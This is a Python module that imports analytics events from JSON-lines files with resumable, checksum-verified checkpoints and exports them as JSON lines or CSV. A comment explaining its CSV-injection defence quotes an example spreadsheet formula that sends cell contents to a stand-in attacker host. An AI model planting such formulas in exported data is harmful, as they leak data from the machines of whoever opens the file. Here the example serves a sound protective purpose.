"""Import events from a JSON-lines file, export them as JSON lines or CSV.

An import stores its position in the file with every batch (the same way the
processor stores its queue position), so running it again after an
interruption goes on where it stopped and never counts an event twice.
The position carries a CRC-32 of every byte before it: imported lines get
new event ids, so only the very bytes already stored may be skipped, and a
file rewritten in place (the shell's > keeps its inode) starts again from
its first line.
"""
import csv
import fcntl
import logging
import os
import time
import zlib

import orjson
from tqdm.contrib.logging import tqdm_logging_redirect

from enrich import NOTHING
from events import EVENT_COLUMNS, InvalidEvent, parse_json, validate_event

log = logging.getLogger("transfer")
IMPORT_BATCH = 10_000
READ_CHUNK = 1024 * 1024
# no event needs a line this long (POST /event takes 64 KiB); a longer one, such as a whole
# JSON array on one line, is rejected without being read into memory, which took 8 times its size
MAX_LINE_BYTES = 1024 * 1024
PROGRESS_EVERY = 5.0        # seconds between progress lines when there is no bar (not a terminal)


class ImportRefused(Exception):
    """An import that cannot start; the message says why and what to do."""


# what compressed files begin with: each of their "lines" would be rejected as not JSON
COMPRESSED = {b"\x1f\x8b": ("gzip", "gunzip -k"), b"\x28\xb5\x2f\xfd": ("zstd", "zstd -d"),
              b"BZh": ("bzip2", "bunzip2 -k"), b"\xfd7zXZ\x00": ("xz", "unxz -k")}


def import_source(path):
    """The checkpoint name of an import: the file itself, not just its name."""
    stat = os.stat(path)
    return f"import:{os.path.realpath(path)}:{stat.st_dev}:{stat.st_ino}"


def import_file(store, path, show_progress=True, sites=frozenset()):
    """Validate each line like POST /event (sites: SITES) and store the valid ones;
    returns (stored, rejected)."""
    source = import_source(path)
    with open(path, "rb") as file:
        _refuse_unreadable(file, path)
        _claim(file, path)
        position = _resume_point(file, store.checkpoint(source), path)
        # log lines go through tqdm.write, which prints them above the bar: printed beside it, each
        # was glued to the end of the bar, whose stale copy then stayed on the screen
        with tqdm_logging_redirect(total=os.path.getsize(path), initial=position.offset, unit="B",
                                   unit_scale=True, disable=not show_progress, desc="import") as bar:
            return _import_from(store, source, file, position, bar, sites)


def _claim(file, path):
    """One import of a file at a time: two would go on from the same position and store
    what follows it twice. The lock goes with the file's closing, or its process's end."""
    try:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except BlockingIOError:
        raise ImportRefused(f"another import of {os.path.realpath(path)} is running; run this one "
                            "again when it has finished") from None


def _refuse_unreadable(file, path):
    """What import cannot read: a pipe (it reads a file it can go back in to resume), a compressed file."""
    if not file.seekable():
        raise ImportRefused(f"{path} is a pipe, and import resumes where it stopped by reading its "
                            "file again: save the stream to a file and import that")
    start = file.read(6)
    for magic, (kind, decompress) in COMPRESSED.items():
        if start.startswith(magic):
            raise ImportRefused(f"{path} is {kind}-compressed, and import reads JSON lines as they "
                                f"are: decompress it first ({decompress} {path})")


def _import_from(store, source, file, position, bar, sites):
    file.seek(position.offset)
    stored = rejected = 0
    last_report = time.monotonic()
    while True:
        rows, start, unfinished = [], position.offset, False
        for line in _lines(file, IMPORT_BATCH):
            if len(line) > MAX_LINE_BYTES and not line.endswith(b"\n"):
                position.advance(line)
                position.skip_rest_of_line(file)
                rejected += 1
                log.warning("import line %d rejected: longer than %d bytes", position.line_number,
                            MAX_LINE_BYTES)
                continue
            if not line.endswith(b"\n") and line.strip() and not _is_json(line):
                unfinished = True       # the writer has not finished it: read it whole next time
                break
            position.advance(line)
            if not line.strip():
                continue
            try:
                event = validate_event(parse_json(line), sites=sites)
            except InvalidEvent as error:
                rejected += 1
                log.warning("import line %d rejected: %s", position.line_number, error)
                continue
            rows.append(tuple(event[column] for column in EVENT_COLUMNS) + (event["id"],) + NOTHING)
        if position.offset == start and not unfinished:
            return stored, rejected
        store.write(rows, source, str(position))
        stored += len(rows)
        bar.update(position.offset - start)
        bar.set_postfix(events=stored, rejected=rejected)
        if bar.disable and time.monotonic() - last_report >= PROGRESS_EVERY:
            log.info("import progress bytes=%d of %d stored=%d rejected=%d",
                     position.offset, bar.total, stored, rejected)
            last_report = time.monotonic()
        if unfinished:
            log.warning("import line %d left for the next run: it has no newline and is not JSON "
                        "(is the file still being written?)", position.line_number + 1)
            return stored, rejected + 1


def _is_json(line):
    try:
        parse_json(line)
    except InvalidEvent:
        return False
    return True


class _Position:
    """How far an import has read: bytes, lines, and the CRC-32 of those bytes."""

    def __init__(self, offset=0, line_number=0, crc=0):
        self.offset, self.line_number, self.crc = offset, line_number, crc

    def advance(self, line):
        self.offset += len(line)
        self.line_number += 1
        self.crc = zlib.crc32(line, self.crc)

    def skip_rest_of_line(self, file):
        """Read on to the end of the line whose first part was the last advance."""
        while chunk := file.readline(READ_CHUNK):
            self.offset += len(chunk)
            self.crc = zlib.crc32(chunk, self.crc)
            if chunk.endswith(b"\n"):
                return

    def __str__(self):
        return f"{self.offset}:{self.line_number}:{self.crc:08x}"


def _resume_point(file, checkpoint, path):
    """The _Position to go on from: the saved one if file still holds the bytes it was taken after.

    A position saved before positions had a CRC is trusted if the file reaches it.
    """
    if checkpoint is None:
        return _Position()
    offset, line_number, *fingerprint = checkpoint.split(":")
    crc = _prefix_crc(file, int(offset))
    if crc is None or fingerprint not in ([], [f"{crc:08x}"]):
        log.info("import of %s starts from its first line: it is not the file imported before "
                 "under this name", path)
        return _Position()
    return _Position(int(offset), int(line_number), crc)


def _prefix_crc(file, offset):
    """The CRC-32 of the first offset bytes of file, or None if it is shorter."""
    file.seek(0)
    crc, left = 0, offset
    while left:
        chunk = file.read(min(left, READ_CHUNK))
        if not chunk:
            return None
        crc, left = zlib.crc32(chunk, crc), left - len(chunk)
    return crc


def _lines(file, count):
    """Up to count complete lines; a last line without a newline counts as complete at EOF.

    A line over MAX_LINE_BYTES comes as its first MAX_LINE_BYTES + 1 bytes, without its newline.
    """
    for _ in range(count):
        line = file.readline(MAX_LINE_BYTES + 1)
        if not line:
            return
        yield line


# a cell that a spreadsheet runs as a formula (CSV injection): anyone can send an event, so a
# path such as =HYPERLINK("http://evil.example?"&A1) would run on the site owner's machine
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _spreadsheet_cell(value):
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def export_events(store, out, site_id, period, fmt="jsonl"):
    """Stream the events of a site (and period) in time order; returns how many."""
    # :name parameters, the one form both stores take (postgres_store.to_pyformat)
    sql = f"SELECT {', '.join(EVENT_COLUMNS)} FROM events WHERE site_id = :site_id"
    params = {"site_id": site_id}
    if not period.all_time:
        sql += " AND timestamp >= :first_ts AND timestamp <= :last_ts"
        params.update(period.timestamp_bounds())
    writer = csv.writer(out) if fmt == "csv" else None
    if writer:
        writer.writerow(EVENT_COLUMNS)
    count = 0
    for row in store.stream(sql + " ORDER BY timestamp, id", params):
        if writer:
            writer.writerow([_spreadsheet_cell(value) for value in row])
        else:
            out.write(orjson.dumps(dict(zip(EVENT_COLUMNS, row))).decode() + "\n")
        count += 1
    return count
